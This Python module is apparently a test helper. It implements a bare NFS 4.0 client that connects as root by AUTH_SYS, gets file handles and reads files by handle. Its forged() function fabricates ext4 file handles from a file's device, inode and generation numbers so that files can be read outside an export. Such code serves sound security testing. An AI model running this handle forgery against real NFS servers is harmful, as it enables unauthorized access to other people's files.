"""As much of NFS 4.0 (RFC 7530) as a hostile client needs: file handles got, made up, and read."""

from __future__ import annotations

import fcntl
import os
import socket
import struct
from pathlib import Path

STALE = 70
_PUTFH, _PUTROOTFH, _LOOKUP, _GETFH, _READ = 22, 24, 15, 10, 25
_GETVERSION = 0x80087601


class Wire:
    """One connection, as root by AUTH_SYS."""

    def __init__(self, address: str, port: int) -> None:
        self._socket = socket.create_connection((address, port), timeout=10)

    def close(self) -> None:
        self._socket.close()

    def handle(self, *names: str) -> bytes:
        """The file handle of a path."""
        walk = [_word(_LOOKUP) + _opaque(name.encode()) for name in names]
        status, said = self._ask(_word(_PUTROOTFH), *walk, _word(_GETFH))
        assert status == 0, status
        start = said.rindex(_word(_GETFH) + _word(0)) + 8
        (length,) = struct.unpack(">I", said[start : start + 4])
        return said[start + 4 : start + 4 + length]

    def read(self, handle: bytes) -> tuple[int, bytes]:
        """The status, and an answer that has the beginning of the file in it."""
        return self._ask(_word(_PUTFH) + _opaque(handle), _word(_READ) + bytes(16) + struct.pack(">QI", 0, 200))

    def _ask(self, *operations: bytes) -> tuple[int, bytes]:
        credentials = _word(0) + _opaque(b"test") + _word(0) * 3
        call = struct.pack(">6I", 1, 0, 2, 100003, 4, 1) + _word(1) + _opaque(credentials) + _word(0) * 2
        compound = _opaque(b"") + _word(0) + _word(len(operations)) + b"".join(operations)
        self._socket.sendall(_word(0x80000000 | len(call + compound)) + call + compound)
        (length,) = struct.unpack(">I", self._exactly(4))
        said = self._exactly(length & 0x7FFFFFFF)
        return struct.unpack(">I", said[24:28])[0], said[28:]

    def _exactly(self, size: int) -> bytes:
        said = b""
        while len(said) < size:
            part = self._socket.recv(size - len(said))
            assert part, "the server hung up"
            said += part
        return said


def forged(known: bytes, file: Path) -> bytes:
    """The handle that a file of an ext4 would have in the export that a known handle of an ext4 is of."""
    found = file.stat()
    with file.open("rb") as opened:
        (generation,) = struct.unpack("<I", fcntl.ioctl(opened, _GETVERSION, bytes(8))[:4])
    device = struct.pack("<II", os.major(found.st_dev), os.minor(found.st_dev))
    return known[:6] + device + known[14:15] + struct.pack("<II", found.st_ino & 0xFFFFFFFF, generation)


def _word(value: int) -> bytes:
    return struct.pack(">I", value)


def _opaque(value: bytes) -> bytes:
    return _word(len(value)) + value + bytes(-len(value) % 4)
